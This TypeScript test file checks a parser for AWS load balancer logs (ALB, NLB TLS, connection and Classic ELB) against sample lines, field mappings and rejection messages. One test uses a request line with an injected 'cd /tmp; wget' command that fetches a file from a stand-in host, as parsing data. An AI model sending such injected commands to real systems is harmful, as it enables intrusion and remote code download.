import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { parseText } from '../../testing/parse.js';
import { needsShared, sharedPath } from '../../testing/shared.js';
import { getPath, type EcsEvent } from '../../ecs/event.js';
import { detectFormat } from '../registry.js';
import { nanosBetween } from './layouts.js';

const ID = 'aws.alb';
const skip = needsShared();
const DIR = ['testdata', 'elastic', 'aws', 'elb_logs'];

function one(line: string, source = 'test.log'): EcsEvent {
  const r = parseText(ID, line, { source });
  assert.deepEqual(r.rejected, [], line);
  assert.equal(r.events.length, 1);
  return r.events[0]!;
}

function rejectReason(line: string): string {
  const r = parseText(ID, line);
  assert.equal(r.events.length, 0, line);
  assert.equal(r.rejected.length, 1, line);
  return r.rejected[0]!.reason;
}

// The current ALB layout: 33 fields, through transformed_host/uri and request_transform_status.
const FULL = [
  'https', '2025-03-01T10:00:01.123456Z', 'app/shop-alb/50dc6c495c0c9188', '198.51.100.23:51324', '10.0.1.15:8080',
  '0.001', '0.045', '0.000', '403', '403', '512', '1024',
  '"POST https://shop.example.com:443/api/cart?item=42&q=a%20b HTTP/1.1"', '"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"',
  'ECDHE-RSA-AES128-GCM-SHA256', 'TLSv1.2', 'arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/73e2d6bc24d8a067',
  '"Self=1-67c2dc35-0123456789abcdef01234567;Root=1-67c2dc35-36d228ad5d99923122bbe354;Sampled=1"', '"shop.example.com"',
  '"arn:aws:acm:eu-west-1:123456789012:certificate/12345678-1234-1234-1234-123456789012"', '5', '2025-03-01T10:00:01.077000Z',
  '"waf,forward"', '"-"', '"-"', '"10.0.1.15:8080"', '"403"', '"Acceptable"', '"-"', 'TID_1234567890abcdef1234567890abcdef',
  '"shop-internal.example.com"', '"/v2/api/cart?item=42"', '"TransformSuccess"',
];

test('every Elastic ELB sample line parses with zero rejects and is auto-detected', { skip }, () => {
  const text = readFileSync(sharedPath(...DIR, 'test-alb.log'), 'utf8');
  const r = parseText(ID, text);
  assert.deepEqual(r.rejected, []);
  assert.equal(r.events.length, text.split('\n').filter((l) => l.trim()).length);
  const types = r.events.map((e) => getPath(e, 'aws.alb.log_type'));
  assert.deepEqual(types, ['alb_access', 'alb_access', 'nlb_tls', 'nlb_tls', 'nlb_tls', 'nlb_tls', 'alb_connection', 'alb_connection', 'alb_connection', 'alb_access']);
  assert.equal(detectFormat({ name: 'test-alb.log', lines: text.split('\n') }).format?.id, ID);
});

test("core ECS fields agree with Elastic's sample_event.json", { skip }, () => {
  const expected = JSON.parse(readFileSync(sharedPath(...DIR, 'sample_event.json'), 'utf8')) as EcsEvent;
  const e = one(expected.event!.original!);
  for (const path of [
    'source.ip', 'source.address', 'source.port', 'trace.id', 'url.domain', 'url.original', 'url.path', 'url.port', 'url.scheme',
    'http.request.method', 'http.version', 'http.response.status_code', 'user_agent.original', 'event.kind', 'event.category',
    'event.outcome', 'cloud.provider',
  ]) {
    assert.deepEqual(getPath(e, path), getPath(expected, path), path);
  }
  for (const path of ['@timestamp', 'event.start', 'event.end']) {
    assert.equal(Date.parse(getPath(e, path) as string), Date.parse(getPath(expected, path) as string), path);
  }
  // Elastic's aws.elb.* names → packettrail's aws.alb.*
  const elb = getPath(expected, 'aws.elb') as Record<string, unknown>;
  assert.equal(getPath(e, 'aws.alb.trace_id'), elb.trace_id);
  assert.equal(getPath(e, 'aws.alb.name'), elb.name);
  assert.deepEqual(getPath(e, 'aws.alb.actions_executed'), elb.action_executed);
  assert.deepEqual(getPath(e, 'aws.alb.target_port_list'), elb.target_port);
  assert.deepEqual(getPath(e, 'aws.alb.target_status_code_list'), elb.target_status_code);
  assert.equal(getPath(e, 'aws.alb.target_group_arn'), getPath(expected, 'aws.elb.target_group.arn'));
  assert.equal(getPath(e, 'aws.alb.target_processing_time'), getPath(expected, 'aws.elb.backend_processing_time.sec'));
  assert.equal(getPath(e, 'destination.ip'), getPath(expected, 'aws.elb.backend.ip'));
  assert.equal(getPath(e, 'aws.alb.target_status_code'), getPath(expected, 'aws.elb.backend.http.response.status_code'));
  // Elastic puts received/sent bytes under *.body.bytes; they include headers, so packettrail uses http.*.bytes.
  assert.equal(getPath(e, 'http.request.bytes'), getPath(expected, 'http.request.body.bytes'));
  assert.equal(getPath(e, 'http.response.bytes'), getPath(expected, 'http.response.body.bytes'));
});

test('the full current ALB layout maps every field', () => {
  const e = one(FULL.join(' '), 's3://logs/AWSLogs/123456789012/elasticloadbalancing/eu-west-1/2025/03/01/123456789012_elasticloadbalancing_eu-west-1_app.shop-alb.50dc6c495c0c9188_20250301T1000Z_198.51.100.1_abc.log.gz');
  assert.equal(e['@timestamp'], '2025-03-01T10:00:01.123Z');
  assert.equal(e.event!.start, '2025-03-01T10:00:01.077Z');
  assert.equal(e.event!.duration, 46_456_000);
  assert.equal(e.event!.outcome, 'failure');
  assert.equal(e.event!.dataset, ID);
  assert.deepEqual(e.source, { address: '198.51.100.23', ip: '198.51.100.23', port: 51324 });
  assert.deepEqual(e.destination, { address: '10.0.1.15', ip: '10.0.1.15', port: 8080 });
  assert.equal(getPath(e, 'http.request.method'), 'POST');
  assert.equal(getPath(e, 'url.full'), 'https://shop.example.com:443/api/cart?item=42&q=a%20b');
  assert.equal(getPath(e, 'url.query'), 'item=42&q=a%20b');
  assert.equal(getPath(e, 'user_agent.name'), 'Firefox');
  assert.deepEqual(e.tls, { version_protocol: 'tls', version: '1.2', cipher: 'ECDHE-RSA-AES128-GCM-SHA256', client: { server_name: 'shop.example.com' } });
  assert.equal(getPath(e, 'trace.id'), '67c2dc3536d228ad5d99923122bbe354');
  assert.equal(getPath(e, 'aws.alb.trace_id'), 'Self=1-67c2dc35-0123456789abcdef01234567;Root=1-67c2dc35-36d228ad5d99923122bbe354;Sampled=1');
  assert.deepEqual(getPath(e, 'aws.alb.actions_executed'), ['waf', 'forward']);
  assert.equal(getPath(e, 'aws.alb.matched_rule_priority'), 5);
  assert.equal(getPath(e, 'aws.alb.classification'), 'Acceptable');
  assert.equal(getPath(e, 'aws.alb.conn_trace_id'), 'TID_1234567890abcdef1234567890abcdef');
  assert.equal(getPath(e, 'aws.alb.transformed_host'), 'shop-internal.example.com');
  assert.equal(getPath(e, 'aws.alb.transformed_uri'), '/v2/api/cart?item=42');
  assert.equal(getPath(e, 'aws.alb.request_transform_status'), 'TransformSuccess');
  assert.equal(getPath(e, 'aws.alb.extra_fields'), undefined);
  assert.equal(getPath(e, 'cloud.region'), 'eu-west-1');
  assert.equal(getPath(e, 'cloud.account.id'), '123456789012');
  assert.deepEqual(getPath(e, 'related.ip'), ['198.51.100.23', '10.0.1.15']);
});

test('extra trailing fields are kept; older shorter layouts are read; too short is rejected', () => {
  const extra = one([...FULL, '"future-field"', 'another'].join(' '));
  assert.deepEqual(getPath(extra, 'aws.alb.extra_fields'), ['future-field', 'another']);
  assert.equal(getPath(extra, 'aws.alb.request_transform_status'), 'TransformSuccess');

  // 2016 layout: ends with trace_id (18 fields).
  const old = one(FULL.slice(0, 18).join(' '));
  assert.equal(getPath(old, 'trace.id'), '67c2dc3536d228ad5d99923122bbe354');
  assert.equal(getPath(old, 'event.start'), undefined);
  assert.equal(getPath(old, 'tls.client'), undefined);
  // Pre conn_trace_id layout (29 fields) and the shortest accepted (through the request line).
  assert.equal(getPath(one(FULL.slice(0, 29).join(' ')), 'aws.alb.classification'), 'Acceptable');
  const shortest = one(FULL.slice(0, 13).join(' '));
  assert.equal(getPath(shortest, 'url.path'), '/api/cart');
  assert.match(rejectReason(FULL.slice(0, 12).join(' ')), /expected at least 13 space-separated fields for an ALB access log line \(33 in the current layout\), got 12/);
});

test('null markers: -, "-" and -1 read as absent', () => {
  const e = one(
    'h2 2025-03-01T10:00:02.000000Z app/shop-alb/50dc6c495c0c9188 198.51.100.23:51324 - -1 -1 -1 502 - 100 0 ' +
      '"GET https://shop.example.com:443/ HTTP/2.0" "-" - - - "-" "-" "-" -1 - "-" "-" "-" "-" "-" "-" "-" -',
  );
  assert.equal(e.destination, undefined);
  assert.equal(getPath(e, 'aws.alb.request_processing_time'), undefined);
  assert.equal(getPath(e, 'aws.alb.matched_rule_priority'), undefined);
  assert.equal(getPath(e, 'user_agent'), undefined);
  assert.equal(getPath(e, 'trace'), undefined);
  assert.equal(getPath(e, 'http.version'), '2.0');
  assert.equal(e.event!.outcome, 'failure');
});

test('NLB TLS lines: full, with fields missing at the end, with extra fields', () => {
  const nlb = [
    'tls', '2.0', '2025-03-01T10:05:00', 'net/edge-nlb/c6e77e28c25b2234', 'g3d4b5e8bb8464cd', '[2001:db8::7]:40123', '10.0.2.9:443',
    '1200', '35', '2048', '4096', '-', 'arn:aws:acm:us-east-2:210987654321:certificate/2a108f19', '0a1b2c', 'ECDHE-RSA-AES128-GCM-SHA256',
    'tlsv13', 'x25519', 'api.example.net', 'h2', 'h2', '"h2","http/1.1"', '2025-03-01T10:04:58',
  ];
  const e = one(nlb.join(' '));
  assert.deepEqual(e.event!.category, ['network']);
  assert.equal(e.event!.duration, 1_200_000_000);
  assert.equal(e.event!.start, '2025-03-01T10:04:58Z');
  assert.equal(e.event!.outcome, 'success');
  assert.deepEqual(e.source, { address: '2001:db8::7', ip: '2001:db8::7', port: 40123, bytes: 2048 });
  assert.equal(getPath(e, 'destination.bytes'), 4096);
  assert.deepEqual(e.tls, { version_protocol: 'tls', version: '1.3', cipher: 'ECDHE-RSA-AES128-GCM-SHA256', client: { server_name: 'api.example.net' }, next_protocol: 'h2' });
  assert.deepEqual(getPath(e, 'aws.alb.alpn_client_preference_list'), ['h2', 'http/1.1']);
  assert.equal(getPath(e, 'cloud.region'), 'us-east-2');
  assert.equal(getPath(e, 'cloud.account.id'), '210987654321');

  const short = one(nlb.slice(0, 11).join(' '));
  assert.equal(getPath(short, 'destination.bytes'), 4096);
  assert.equal(getPath(short, 'tls'), undefined);
  assert.match(rejectReason(nlb.slice(0, 10).join(' ')), /expected at least 11 space-separated fields for an NLB TLS access log line \(22 in the current layout\), got 10/);
  assert.deepEqual(getPath(one([...nlb, 'new1'].join(' ')), 'aws.alb.extra_fields'), ['new1']);

  const alert = one([...nlb.slice(0, 8), '-', '0', '0', '40', ...nlb.slice(12)].join(' '));
  assert.equal(alert.event!.outcome, 'failure');
  assert.equal(alert.event!.reason, 'client sent TLS alert 40');
});

test('ALB connection log lines: mTLS success and failure, without conn_trace_id, with extra fields', () => {
  const ok = one(
    '2025-03-01T10:00:00.500000Z 198.51.100.23 51324 443 TLSv1.3 TLS_AES_128_GCM_SHA256 0.012 "CN=client.example.com,O=Example" ' +
      'NotBefore=2025-01-01T00:00:00Z;NotAfter=2026-01-01T00:00:00Z 0ABC123 Success TID_1234567890abcdef1234567890abcdef',
  );
  assert.equal(getPath(ok, 'aws.alb.log_type'), 'alb_connection');
  assert.equal(ok.event!.outcome, 'success');
  assert.deepEqual(ok.source, { address: '198.51.100.23', ip: '198.51.100.23', port: 51324 });
  assert.equal(getPath(ok, 'destination.port'), 443);
  assert.equal(getPath(ok, 'tls.version'), '1.3');
  assert.equal(getPath(ok, 'tls.client.subject'), 'CN=client.example.com,O=Example');
  assert.equal(getPath(ok, 'tls.client.not_after'), '2026-01-01T00:00:00Z');
  assert.equal(getPath(ok, 'tls.client.x509.serial_number'), '0ABC123');
  assert.equal(getPath(ok, 'aws.alb.tls_handshake_latency'), 0.012);
  assert.equal(getPath(ok, 'aws.alb.conn_trace_id'), 'TID_1234567890abcdef1234567890abcdef');

  const failed = one('2025-03-01T10:00:00.500000Z 198.51.100.23 51324 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 - "-" - - Failed:ClientCertUntrusted');
  assert.equal(failed.event!.outcome, 'failure');
  assert.equal(failed.event!.reason, 'ClientCertUntrusted');
  assert.equal(getPath(failed, 'aws.alb.conn_trace_id'), undefined);

  const extra = one('2025-03-01T10:00:00Z 10.0.0.5 40000 80 - - - "-" - - - TID_00 x y');
  assert.deepEqual(getPath(extra, 'aws.alb.extra_fields'), ['x', 'y']);
  assert.match(rejectReason('2025-03-01T10:00:00Z 10.0.0.5 40000 80 - -'), /expected at least 7 space-separated fields for an ALB connection log line \(12 in the current layout\), got 6/);
  assert.match(rejectReason('2025-03-01T10:00:00Z 10.0.0.5 40000 99999 - - -'), /listener_port '99999' is not a port number/);
});

const CLASSIC =
  '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -';

test('Classic ELB access lines: full, short, with extra fields', () => {
  const e = one(CLASSIC);
  assert.equal(getPath(e, 'aws.alb.log_type'), 'elb_classic');
  assert.equal(getPath(e, 'aws.alb.name'), 'my-loadbalancer');
  assert.equal(getPath(e, 'url.domain'), 'www.example.com');
  assert.equal(getPath(e, 'http.response.status_code'), 200);
  assert.deepEqual(getPath(one(`${CLASSIC} extra-field`), 'aws.alb.extra_fields'), ['extra-field']);
  const head = CLASSIC.split(' ').slice(0, 11).join(' ');
  assert.equal(getPath(one(`${head} "GET http://www.example.com:80/ HTTP/1.1"`), 'user_agent'), undefined);
  assert.match(rejectReason(head), /expected at least 12 space-separated fields for a Classic ELB access log line \(15 in the current layout\), got 11/);
});

test('request lines with spaces in the URL and garbled request lines', () => {
  const spaced = one(FULL.slice(0, 12).join(' ') + ' "GET http://10.0.0.1:80/shell?cd+/tmp;wget+ evil.example/x HTTP/1.1"');
  assert.equal(getPath(spaced, 'url.query'), 'cd+/tmp;wget+ evil.example/x');
  assert.equal(getPath(spaced, 'http.version'), '1.1');
  const garbled = one(FULL.slice(0, 12).join(' ') + ' "- http://internal.example.com:80-/ "');
  assert.equal(getPath(garbled, 'http.request.method'), undefined);
  assert.equal(getPath(garbled, 'url.original'), 'http://internal.example.com:80-/');
  assert.equal(getPath(garbled, 'url.full'), undefined);
  const dashes = one(FULL.slice(0, 12).join(' ') + ' "- - -"');
  assert.equal(dashes.url, undefined);
});

test('malformed lines are rejected with a precise reason; blank lines are skipped', () => {
  const line = (i: number, v: string) => FULL.map((f, j) => (j === i ? v : f)).join(' ');
  assert.match(rejectReason(line(1, '2025-13-01T10:00:01Z')), /time '2025-13-01T10:00:01Z' is not an ISO 8601 UTC time/);
  assert.match(rejectReason(line(3, 'nobody:80')), /client:port 'nobody:80' is not an IP address with a port/);
  assert.match(rejectReason(line(3, '198.51.100.23:port')), /client:port '198.51.100.23:port' has no valid port \(expected ip:port\)/);
  assert.match(rejectReason(line(8, '4O3')), /elb_status_code '4O3' is not a 3-digit HTTP status/);
  assert.match(rejectReason(line(10, '12k')), /received_bytes '12k' is not a whole number/);
  assert.match(rejectReason(line(6, 'fast')), /target_processing_time 'fast' is not a non-negative number/);
  assert.match(rejectReason('https 2025-03-01T10:00:01Z app/x/1 1.2.3.4:5 - 0 0 0 200 200 1 1 "GET / HTTP/1.1'), /unterminated quoted field starting at column \d+/);
  assert.match(rejectReason('hello world'), /unrecognized load balancer log line: .* got 'hello'/);
  const r = parseText(ID, `\n${FULL.join(' ')}\r\n  \n`);
  assert.deepEqual(r.rejected, []);
  assert.equal(r.events.length, 1);
  assert.equal(r.skipped['blank line'], 2);
});

test('auto-detection picks aws.alb for ALB, NLB and connection logs', () => {
  assert.equal(detectFormat({ name: '', lines: [FULL.join(' ')] }).format?.id, ID);
  assert.equal(detectFormat({ name: '', lines: ['tls 2.0 2025-03-01T10:05:00 net/edge-nlb/c6e77e28c25b2234 g3d4 1.2.3.4:5 10.0.0.1:443 1 1 1 1 - - - - - - - - - - 2025-03-01T10:05:00'] }).format?.id, ID);
  assert.equal(
    detectFormat({ name: '', lines: ['2025-03-01T10:00:00.500000Z 198.51.100.23 51324 443 TLSv1.3 TLS_AES_128_GCM_SHA256 0.012 "-" - - Success TID_1'] }).format?.id,
    ID,
  );
});

test('found by fuzzing: a duration beyond a long (about 292 years of nanoseconds) is left unset, not stored as 1e20', () => {
  const nlb = (ms: string) => `tls 2.0 2025-03-01T10:05:00 net/edge-nlb/c6e77e28c25b2234 g3d4 1.2.3.4:5 10.0.0.1:443 ${ms} 1 1 1 - - - - - - - - - - 2025-03-01T10:05:00`;
  assert.equal(one(nlb('5')).event?.duration, 5_000_000);
  assert.equal(one(nlb('99999999999999')).event?.duration, undefined);
  assert.equal(nanosBetween({ ms: 0, ns: 0 }, { ms: 8.64e15, ns: 0 }), undefined);
  assert.equal(nanosBetween({ ms: 0, ns: 0 }, { ms: 1500, ns: 250 }), 1_500_000_250);
});

test('found by fuzzing: byte counts beyond 2^53 and times of hundreds of digits are rejected instead of stored as 1.8e19 or Infinity', () => {
  const line = (i: number, v: string) => FULL.map((f, j) => (j === i ? v : f)).join(' ');
  assert.match(rejectReason(line(10, '18446744073709551616')), /received_bytes '18446744073709551616' is not a whole number \(up to 9007199254740991\)/);
  assert.match(rejectReason(line(6, '9'.repeat(400))), /target_processing_time '9+…?.*' is not a non-negative number/);
});
